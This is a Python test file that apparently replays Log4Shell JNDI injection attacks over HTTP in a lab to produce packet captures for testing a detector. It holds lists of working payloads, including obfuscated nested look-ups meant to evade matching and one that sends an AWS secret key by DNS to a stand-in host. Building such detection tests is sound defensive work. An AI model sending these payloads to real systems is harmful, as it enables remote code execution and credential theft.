"""Scenes of attacks over HTTP: what is sent is what pcaps/NAME.expect demands."""

import gzip
import http.client
import json
import os
import socket
import subprocess
import urllib.parse
import zlib

import servers
from lab import ATTACKER, CDN, FRONT, FRONT6
from scene import jndi, scene

ENVIRONMENT = {"PATH": "/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C.UTF-8"}


def curl(lab, url, *args, source=ATTACKER, address=FRONT, status="200"):
    """One run of curl; the status codes it got must be those expected."""
    name = urllib.parse.urlsplit(url.replace("[", "").replace("]", ""))
    command = ["curl", "-q", "-g", "--path-as-is", "-s", "-S", "--noproxy", "*", "--max-time",
               "20", "--interface", source, "-o", "/dev/null", "-w", "%{http_code} "]
    if not url.startswith("http://["):
        port = name.port or (443 if name.scheme == "https" else 80)
        command += ["--resolve", f"{name.hostname}:{port}:{address}"]
    with lab.inside("client"):
        answer = subprocess.run(command + list(args) + [url], check=True, capture_output=True,
                                env=ENVIRONMENT).stdout.decode().split()
    if answer != status.split():
        raise RuntimeError(f"curl {args} {url}: status {answer}, expected {status}")


def java(lab, *args):
    """One run of the Java client; it must get 200."""
    hosts = lab.write("hosts", f"{FRONT} search.example\n{FRONT} shop.example\n")
    client = os.path.join(servers.HERE, "java", "Client.java")
    with lab.inside("client"):
        answer = subprocess.run(
            ["java", f"-Djdk.net.hosts.file={hosts}", client, *args], check=True,
            capture_output=True, env=ENVIRONMENT).stdout.split()
    if answer != [b"200"]:
        raise RuntimeError(f"java {args}: {answer}")


def python_client(lab, requests, address=FRONT, port=80):
    """Sends (method, path, headers, body) over one connection of Python's http.client."""
    with lab.inside("client"):
        connection = http.client.HTTPConnection(address, port, timeout=20,
                                                source_address=(ATTACKER, 0))
        connection.connect()
    for method, path, headers, body in requests:
        chunked = headers.get("Transfer-Encoding") == "chunked"
        pieces = [body[i:i + 20] for i in range(0, len(body), 20)] if chunked else body
        connection.request(method, path, body=pieces, headers=headers, encode_chunked=chunked)
        response = connection.getresponse()
        response.read()
        if response.status != 200:
            raise RuntimeError(f"{method} {path}: {response.status}")
    connection.close()


def raw_client(lab, data, address=FRONT, port=80):
    """Writes bytes as they are and reads until the server closes."""
    with lab.inside("client"):
        peer = socket.create_connection((address, port), 20, source_address=(ATTACKER, 0))
    peer.sendall(data)
    answer = b""
    while piece := peer.recv(65536):
        answer += piece
    peer.close()
    return answer


@scene("http-headers")
def headers(lab, path):
    """One header each, one connection each."""
    servers.start_site(lab)
    with lab.capture(path):
        url = "http://shop.example/"
        curl(lab, url, "-A", jndi("user-agent"))
        curl(lab, url, "-H", "X-Api-Version: " + jndi("x-api-version"))
        curl(lab, url, "-e", jndi("referer"))
        curl(lab, url, "-b", "lang=en; session=" + jndi("cookie") + "; theme=dark")
        curl(lab, url, "-u", jndi("basic") + ":secret")
        curl(lab, url, "-H", "X-Forwarded-For: " + jndi("x-forwarded-for"))
        curl(lab, url, "-H", "Accept-Language: de, " + jndi("accept-language") + ";q=0.5")
        curl(lab, url, "-H", "Accept: " + jndi("accept"))
        curl(lab, url, "-H", "X-Two: " + jndi("two-a") + " and " + jndi("two-b"))


@scene("http-uri")
def uri(lab, path):
    """The request target: raw, percent-encoded once and twice, in path and query."""
    servers.start_site(lab)
    def quote(text):
        return urllib.parse.quote(text, safe="")

    with lab.capture(path):
        base = "http://shop.example/"
        curl(lab, base + "?q=" + jndi("raw"))
        curl(lab, base + "?lang=en&q=" + quote(jndi("percent")) + "&page=1")
        curl(lab, base + "?q=" + quote(quote(jndi("percent-twice"))))
        curl(lab, base + "?q=" + "".join(f"%{byte:02x}" for byte in jndi("all-percent").encode()))
        curl(lab, base + jndi("path"), status="404")
        curl(lab, base + "a/" + quote(jndi("path-percent")) + "/b", status="404")
        curl(lab, base + "?" + quote(jndi("parameter-name")) + "=1")
        curl(lab, base + "?q=" + jndi("x?b=1&c=2"))


@scene("http-bodies")
def bodies(lab, path):
    """Request bodies: form, JSON, multipart, XML, plain text."""
    servers.start_site(lab)
    upload = lab.write("report.txt", "Quarterly figures\n")
    with lab.capture(path):
        url = "http://shop.example/api/comments"
        curl(lab, url, "--data-urlencode", "name=Jo Bloggs",
             "--data-urlencode", "comment=" + jndi("form"))
        curl(lab, url, "-d", "a=1&comment=nice+shop+" + jndi("form-raw"))
        escaped = jndi("json").replace("$", "\\u0024").replace("{", "\\u007b")
        curl(lab, url, "-H", "Content-Type: application/json",
             "-d", '{"id": 7, "user": {"name": "' + escaped + '", "age": 30}}')
        curl(lab, url, "-H", "Content-Type: application/json",
             "-d", json.dumps({"items": [{"sku": "A1"}, {"sku": jndi("json-array")}]}))
        curl(lab, url, "-F", "title=Report", "-F",
             f"report=@{upload};filename={jndi('upload-name')};type=text/plain")
        curl(lab, url, "-F", "title=" + jndi("multipart"), "-F", f"report=@{upload}")
        curl(lab, url, "-H", "Content-Type: application/xml",
             "-d", f"<order><name>{jndi('xml').replace('$', '&#36;')}</name></order>")
        curl(lab, url, "-H", "Content-Type: text/plain", "-d", "Hello " + jndi("text") + " bye")


def _codings():
    import brotli
    import zstandard
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    return [
        ("gzip-chunked", "gzip", True, lambda b: gzip.compress(b, mtime=0)),
        ("gzip", "gzip", False, lambda b: gzip.compress(b, mtime=0)),
        ("deflate", "deflate", False, zlib.compress),
        ("deflate-raw", "deflate", False, lambda b: raw.compress(b) + raw.flush()),
        ("br", "br", False, brotli.compress),
        ("zstd", "zstd", False, zstandard.ZstdCompressor().compress),
        ("gzip-br", "gzip, br", True, lambda b: brotli.compress(gzip.compress(b, mtime=0))),
        ("chunked", None, True, lambda b: b),
    ]


@scene("http-coded-bodies")
def coded_bodies(lab, path):
    """Bodies in every transfer and content coding, over one connection of Python's client."""
    servers.start_app(lab, "server", FRONT, 80)
    requests = []
    for name, coding, chunked, encode in _codings():
        text = json.dumps({"from": "Jo Bloggs of Springfield " * 4, "q": jndi(name)})
        heads = {"Content-Type": "application/json", "User-Agent": "shop-client/1.0"}
        if coding:
            heads["Content-Encoding"] = coding
        if chunked:
            heads["Transfer-Encoding"] = "chunked"
        requests.append(("POST", "/" + name, heads, encode(text.encode())))
    with lab.capture(path):
        python_client(lab, requests)


NESTED = [
    "${${lower:j}ndi:ldap://203.0.113.9:1389/lower}",
    "${${upper:j}ndi:ldap://203.0.113.9:1389/upper}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.9:1389/default}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.9:1389/env}",
    "${j${date:'n'}di:ldap://203.0.113.9:1389/date}",
    "${${lower:${lower:${upper:jndi}}}:${lower:ldap}://203.0.113.9:1389/deep}",
    "${jndi${sys:path.separator}ldap:/${sys:file.separator}203.0.113.9:1389/separator}",
    "${lower:$${jndi:ldap://203.0.113.9:1389/escape-undone}}",
    "${jndi:ldap:\\-//203.0.113.9:1389/delimiter:-}",
    "${a:-${jndi:ldap://203.0.113.9:1389/in-default}}",
    "${${a${::-:}-jndi}:ldap://203.0.113.9:1389/produced-delimiter}",
]


@scene("http-nested")
def nested(lab, path):
    """Look-ups that only evaluation shows, in the User-Agent of curl; the last in the query."""
    servers.start_site(lab)
    dotless = "${jnd${upper:\u0131}:ldap://203.0.113.9:1389/dotless}"
    with lab.capture(path):
        for text in NESTED:
            curl(lab, "http://shop.example/", "-A", text)
        curl(lab, "http://shop.example/?q=" + urllib.parse.quote(dotless, safe=""))


SCHEMES = [
    "${jndi:ldap://203.0.113.9:1389/ldap}",
    "${jndi:ldap://203.0.113.9/no-port}",
    "${jndi:ldaps://203.0.113.9:1636/ldaps}",
    "${jndi:rmi://203.0.113.9:1099/rmi}",
    "${jndi:dns://203.0.113.53/${env:AWS_SECRET_ACCESS_KEY}}",
    "${jndi:dns://${hostName}.probe.example/a}",
    "${jndi:iiop://203.0.113.9:2809/iiop}",
    "${jndi:corbaname:iiop:203.0.113.9:2809#corba}",
    "${jndi:LDAP://203.0.113.9:1389/wrong-case}",
    "${jndi:http://203.0.113.9:8000/http}",
    "${jndi:java:comp/env/jdbc/shop}",
    "${jndi:logging/context-name}",
    "${jndi:ldap://[2001:db8:3::9]:1389/ipv6}",
]


@scene("http-schemes")
def schemes(lab, path):
    """Every scheme that JNDI knows, and some that it does not, in X-Api-Version."""
    servers.start_site(lab)
    with lab.capture(path):
        for text in SCHEMES:
            curl(lab, "http://shop.example/", "-H", "X-Api-Version: " + text)


UNSURE = [
    "$${jndi:ldap://203.0.113.9:1389/escaped}",
    "${jndi:ldap://203.0.113.9:1389/unclosed",
    "${x ${jndi:ldap://203.0.113.9:1389/shielded}",
    "${jndi :ldap://203.0.113.9:1389/blank}",
    "#{jndi:ldap://203.0.113.9:1389/hash}",
    "${java:x} ${jndi:ldap://203.0.113.9:1389/exception}",
    "${jndi}",
    "jndi:ldap://203.0.113.9:1389/no-opener",
    "a blog post about ${jndi} and ldap",
]


@scene("http-unsure")
def unsure(lab, path):
    """Conditional look-ups, attempts that Log4j would not carry out, and prose."""
    servers.start_site(lab)
    with lab.capture(path):
        for text in UNSURE:
            curl(lab, "http://shop.example/", "-A", text)


@scene("http-keepalive")
def keepalive(lab, path):
    """Several requests over one connection of curl; the second and the last are attacks."""
    servers.start_site(lab)
    with lab.capture(path):
        url = "http://shop.example/"
        again = ["--next", "-s", "-S", "-g", "--noproxy", "*", "--interface", ATTACKER,
                 "-o", "/dev/null", "-w", "%{http_code} "]
        curl(lab, url + "news.html",
             url, *again, "-A", jndi("second"), url + "style.css",
             *again, "-d", "name=Jo", url + "api/cart",
             *again, "-H", "X-Token: " + jndi("last"), status="200 200 200 200")


@scene("http-pipeline")
def pipeline(lab, path):
    """Five requests in one write of a Python socket; the second and the fifth are attacks."""
    servers.start_site(lab)
    requests = [
        "GET /?n=1 HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        f"GET /?n=2 HTTP/1.1\r\nHost: shop.example\r\nX-Trace: {jndi('pipelined')}\r\n\r\n",
        "POST /api/cart HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 9\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\nsku=A1001",
        "HEAD /?n=4 HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        f"GET /?n=5&q={jndi('pipelined-query')} HTTP/1.1\r\nHost: shop.example\r\n"
        "Connection: close\r\n\r\n",
    ]
    with lab.capture(path):
        answer = raw_client(lab, "".join(requests).encode())
    if answer.count(b"HTTP/1.1 200 OK\r\n") != 5:
        raise RuntimeError(f"not five answers: {answer!r}")


@scene("http-ipv6")
def ipv6(lab, path):
    """curl over IPv6."""
    lab.ipv6(True)
    servers.start_site(lab, ipv6=True)
    with lab.capture(path):
        curl(lab, f"http://[{FRONT6}]/", "-A", jndi("ipv6"), source="2001:db8:1::23")
        curl(lab, f"http://[{FRONT6}]/news.html", source="2001:db8:1::23")


@scene("http-java-ports")
def java_ports(lab, path):
    """Both HTTP clients of the JDK, servers on ports 8080, 8983 and 12345."""
    servers.start_app(lab, "server", FRONT, 8080)
    servers.start_java_app(lab, 8983)
    servers.start_app(lab, "server", FRONT, 12345)
    with lab.capture(path):
        java(lab, "new", "GET", "http://search.example:8983/solr/admin/cores?action=STATUS", "",
             "User-Agent", jndi("solr"))
        java(lab, "old", "POST", "http://search.example:12345/login",
             '{"user":"' + jndi("old-client") + '"}', "Content-Type", "application/json")
        java(lab, "new", "PUT", "http://shop.example:8080/api/item/7", "name=" + jndi("new-client"),
             "Content-Type", "application/x-www-form-urlencoded")
        java(lab, "old", "GET", "http://shop.example:8080/api/item/7", "")


@scene("http-responses")
def responses(lab, path):
    """Look-ups from server to client: stored, reflected, compressed, in a header."""
    servers.start_app(lab, "server", FRONT, 8080)
    with lab.capture(path):
        base = "http://shop.example:8080/"
        curl(lab, base + "stored")
        curl(lab, base + "stored-gzip")
        curl(lab, base + "header")
        curl(lab, base + "search?q=" + jndi("reflected"))


@scene("http-framing")
def framing(lab, path):
    """HEAD, 304, 100-continue and an answer until close; what follows must still be seen."""
    servers.start_app(lab, "server", FRONT, 8080)
    with lab.capture(path):
        base = "http://shop.example:8080/"
        again = ["--next", "-s", "-S", "-g", "--noproxy", "*", "--interface", ATTACKER,
                 "-o", "/dev/null", "-w", "%{http_code} "]
        curl(lab, base + "last", "-I", base + "page",
             *again, base + "unchanged",
             *again, "-H", "Expect: 100-continue", "-d", "note=" + jndi("after-continue"),
             base + "notes",
             *again, "-A", jndi("after-all"), status="200 304 200 200")
        curl(lab, base + "page.cgi", "-A", jndi("until-close"))


COUNTRIES = ["131.111.8.46", "129.132.19.216", "133.11.0.1", "141.20.1.1", "130.237.28.40",
             "143.107.1.1", "137.132.1.1", "128.100.1.1", "196.21.1.1", "2001:620::5"]


@scene("http-proxy")
def proxy(lab, path):
    """Between a reverse proxy and the application: nginx adds to X-Forwarded-For.

    The CDN edge 198.51.100.7 reports the addresses of real clients; the attacker 198.51.100.23
    comes to nginx directly and claims to be 9.9.9.9.
    """
    servers.start_site(lab)
    with lab.capture(path, interface="s1"):
        url = "http://shop.example/api/items"
        for address in COUNTRIES:
            curl(lab, url, "-H", "X-Forwarded-For: " + address, "-A",
                 jndi("from-" + address.replace(":", "-")), source=CDN)
        curl(lab, url, "-H", "X-Forwarded-For: 131.111.8.46", "-A", "Mozilla/5.0", source=CDN)
        curl(lab, url, "-H", "X-Forwarded-For: 9.9.9.9", "-A", jndi("spoofed"))


@scene("http-offload")
def offload(lab, path):
    """Offloads left on: packets of up to 64 KiB, and checksums that nobody computed."""
    for namespace, interface in (("client", "c0"), ("server", "s0")):
        lab.offloads(namespace, interface, "on")
    servers.start_app(lab, "server", FRONT, 80)
    body = "\n".join(f"{i:06d} an ordinary line of a log file" for i in range(2000))
    with lab.capture(path):
        python_client(lab, [
            ("POST", "/upload", {"Content-Type": "text/plain"},
             (body + "\n" + jndi("offload") + "\n").encode())])


@scene("http-large-body")
def large_body(lab, path):
    """A look-up behind 370,000 bytes of harmless JSON."""
    servers.start_app(lab, "server", FRONT, 80)
    items = [{"id": i, "name": f"item {i * 7919 % 100003}"} for i in range(10000)]
    items.append({"id": 10000, "name": jndi("far-behind")})
    with lab.capture(path):
        python_client(lab, [("POST", "/import", {"Content-Type": "application/json"},
                             json.dumps(items).encode())])

